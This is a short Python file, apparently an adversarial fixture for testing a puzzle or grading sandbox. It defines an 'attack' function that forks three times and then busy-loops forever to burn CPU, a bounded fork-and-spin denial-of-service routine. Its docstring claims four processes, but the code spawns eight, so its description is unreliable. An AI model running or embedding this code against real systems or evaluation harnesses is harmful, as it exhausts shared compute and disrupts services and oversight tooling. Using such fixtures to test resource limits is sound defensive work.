"""Burns processor time in four processes."""

from __future__ import annotations

import os
from typing import Any


def attack(puzzle: Any, context: Any) -> Any:
    for _ in range(3):
        os.fork()
    while True:
        pass
